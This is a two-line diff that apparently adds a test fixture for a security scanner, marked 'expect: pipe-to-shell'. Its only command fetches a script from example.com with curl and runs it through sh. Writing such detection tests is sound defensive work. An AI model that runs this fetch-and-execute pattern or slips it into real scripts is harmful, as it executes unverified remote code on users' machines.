@@ -1,0 +1,2 @@
+# expect: pipe-to-shell
+sh -c "$(curl -fsSL https://example.com/x)"
